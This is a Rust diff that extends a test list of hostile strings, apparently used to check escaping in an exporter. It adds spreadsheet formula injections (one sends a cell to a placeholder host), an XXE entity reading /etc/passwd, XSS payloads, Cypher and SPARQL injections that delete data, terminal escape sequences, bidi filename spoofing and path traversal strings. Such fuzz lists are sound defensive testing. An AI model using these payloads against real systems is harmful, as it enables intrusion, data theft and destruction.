@@ -48,7 +48,73 @@ pub const HOSTILE: &[&str] = &[
     "null",
     "true",
     "007",
+    // Formulas: programs to start, pages to fetch, signs behind white space and in full width.
+    "=cmd|'/c calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "=IMPORTXML(CONCAT(\"http://a.example/?\", A1), \"//a\")",
+    "\t=1+1",
+    "\r=1+1",
+    " =1+1",
+    "＝1+1",
+    // What tables of other programs take for nothing or for another type.
+    "NULL",
+    "NaN",
+    "N/A",
+    "#REF!",
+    "1e5",
+    "2023-03-21",
+    // Labels of DOT.
+    "<<table port=\"p\"><tr><td href=\"javascript:alert(1)\">x</td></tr></table>>",
+    "x\" shape=none URL=\"javascript:alert(1)\" label=<<b>y</b>>",
+    "}; subgraph cluster_x { a -> b }",
+    "{ a | <port> b \\| c } \\H \\E \\T",
+    // XML, HTML and scripts.
+    "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
+    "<![CDATA[ x ]]> <?php echo 1 ?>",
+    "<img src=x onerror=alert(1)>",
+    "\" onmouseover=\"alert(1)",
+    "<svg/onload=alert(1)>",
+    "<!--<script>",
+    "javascript:alert(1)",
+    // Keywords, nodes and contexts of JSON-LD.
+    "@id",
+    "@type",
+    "@context",
+    "_:b0",
+    "schema:name",
+    "https://a.example/#x",
+    "{\"@context\": \"https://a.example/context.jsonld\", \"@graph\": []}",
+    // Cypher and SPARQL.
+    "x'}) DETACH DELETE n //",
+    "`) MATCH (n) DETACH DELETE n //",
+    "$id {x: 1}",
+    "\" . } ; DROP ALL ; #",
+    "<http://a.example/> } SERVICE <http://a.example/sparql> { ?s ?p ?o",
+    // What steers a terminal: title, link, clearing, a question, the one-byte form of an escape.
+    "\u{1b}]0;owned\u{7}title",
+    "\u{1b}]8;;http://a.example\u{1b}\\link\u{1b}]8;;\u{1b}\\",
+    "\u{1b}[2J\u{1b}[6n cleared",
+    "\u{9b}31m red",
+    // What turns the order of reading.
+    "\u{2066}isolate\u{2069} \u{200f}mark \u{61c}letter",
+    "gnp.exe\u{202e}cod",
+    // Paths.
+    "../../../etc/passwd",
+    "/etc/passwd",
+    "C:\\Windows\\System32",
+    "..",
+    "CON",
+    LONG,
 ];
+
+macro_rules! ten {
+    ($text:expr) => {
+        concat!($text, $text, $text, $text, $text, $text, $text, $text, $text, $text)
+    };
+}
+
+/// A name of five thousand characters.
+const LONG: &str = concat!(ten!(ten!(ten!("Long "))), "name");
 
 /// A document of that id, with a hostile title and address.
 pub fn document(id: &str) -> Node {
